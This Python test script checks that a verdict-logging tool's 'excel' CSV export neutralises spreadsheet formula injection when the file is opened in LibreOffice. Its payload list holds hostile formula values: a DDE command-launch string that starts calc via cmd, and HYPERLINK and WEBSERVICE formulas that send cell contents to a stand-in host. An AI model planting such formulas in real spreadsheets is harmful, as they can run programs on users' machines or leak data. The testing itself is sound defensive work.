"""The excel dialect in a spreadsheet: LibreOffice opens it, runs nothing, and shows every character as it was.

    python test_spreadsheet.py --binary PATH

LibreOffice is told to evaluate formulas and to recognise numbers, as somebody who clicks through its dialogue may. The machine dialect of
the same report is opened as well: there formulas do come alive, so the test would see them.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree

from harness import Checks, Program

COMMANDS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?q="&A2;"open")', 'WEBSERVICE("http://x.example/"&A1)', "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "$A$1*2", "-1", "NOW()",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u3000+", "  -", "=+", "==", "+@", "\u200b=", "\ufeff=", "-=", '="a"&', "@@", "+=", "=\u00a0")
CHINESE = ("守卫模型-审核九号", "守护·安全比例（八月）", "𠀋𡈽", "繁體中文、簡體中文")
PLAIN = ("Qwen3Guard-Gen-4B", "a=1", "x@example.org", "'=1", '"=1"', 'say "hi"', "a,b;c", "حارس النموذج", "🛡️ guard", "#REF!", "{=1}", "TRUE", "1e5", "007")
TABLE, OFFICE, TEXT = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# Comma, quote, UTF-8, from line 1; then: numbers recognised, and (the 13th) formulas evaluated.
FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,0,true"


def payloads() -> list[str]:
    return [value for start, command in itertools.product(STARTS, COMMANDS) if len((value := start + command).encode()) <= 64]


def shown(element: ElementTree.Element) -> str:
    """A cell's text; spaces that stand together are written as an element."""
    text = element.text or ""
    for child in element:
        text += " " * int(child.get(TEXT + "c", "1")) if child.tag == TEXT + "s" else shown(child)
        text += child.tail or ""
    return text


class Sheet:
    """A file as LibreOffice understood it: rows of texts, and the formulas in it."""

    def __init__(self, folder: str, path: str) -> None:
        result = subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore", f"--infilter={FILTER}", "--convert-to", "fods", "--outdir", folder, path],
            capture_output=True, text=True, timeout=180, check=False,
        )  # fmt: skip
        made = os.path.join(folder, os.path.splitext(os.path.basename(path))[0] + ".fods")
        if not os.path.exists(made):
            sys.exit(f"LibreOffice made nothing of it: {result.stdout}{result.stderr}")
        self.rows: list[list[str]] = []
        self.formulas: list[str] = []
        for row in ElementTree.parse(made).getroot().iter(TABLE + "table-row"):
            cells: list[str] = []
            for cell in row.iter(TABLE + "table-cell"):
                if formula := cell.get(TABLE + "formula"):
                    self.formulas.append(formula)
                cells += ["\n".join(shown(part) for part in cell.iter(TEXT + "p"))] * min(int(cell.get(TABLE + "number-columns-repeated", "1")), 100)
            self.rows.append(cells)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", required=True)
    options = parser.parse_args()
    checks = Checks("spreadsheet")
    program = Program(options.binary)
    with tempfile.TemporaryDirectory() as folder:
        dangerous = payloads()
        checks.check(len(dangerous) >= 200, "as many payloads as were asked for", len(dangerous))
        values = [*dangerous, *CHINESE, *PLAIN]
        records = [{"id": str(number), "time": "2026-01-01T12:00:00Z", "verdict": ("safe", "unsafe")[number % 2], "model": value, "source": value} for number, value in enumerate(values)]
        database = os.path.join(folder, "x.db")
        stored = program.ingest(database, "-", stdin="\n".join(json.dumps(record, ensure_ascii=False) for record in records).encode())
        checks.check(stored.code == 0 and stored.json_ledger is not None and stored.json_ledger.stored == len(values), "a store", stored.brief())
        sheets = {}
        for dialect in ("excel", "csv"):
            path = os.path.join(folder, f"{dialect}.csv")
            result = program.run("report", "safe-ratio", "--db", database, "--from", "2026-01-01", "--to", "2026-01-02", "--by", "source,model", "--format", dialect, "--output", path)
            checks.equal(result.code, 0, f"{dialect}: exit")
            sheets[dialect] = Sheet(folder, path)
        checks.check(len(sheets["csv"].formulas) >= 50, "without the dialect formulas would come alive", len(sheets["csv"].formulas))
        excel = sheets["excel"]
        checks.equal(excel.formulas, [], "no live formula")
        checks.equal(excel.rows[0][:5], ["start", "end", "source", "model", "total"], "the header, without the mark of the encoding")
        seen = {row[2] for row in excel.rows[1:]}
        checks.equal({row[3] for row in excel.rows[1:]}, seen, "source and model are shown alike")
        for value in dangerous:
            checks.check("'" + value in seen, f"defused: {value!r}", [row for row in seen if value in row])
        for value in CHINESE:
            checks.check(value in seen, f"intact: {value}")
        checks.equal(len(excel.rows), 1 + len(values), "rows")
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
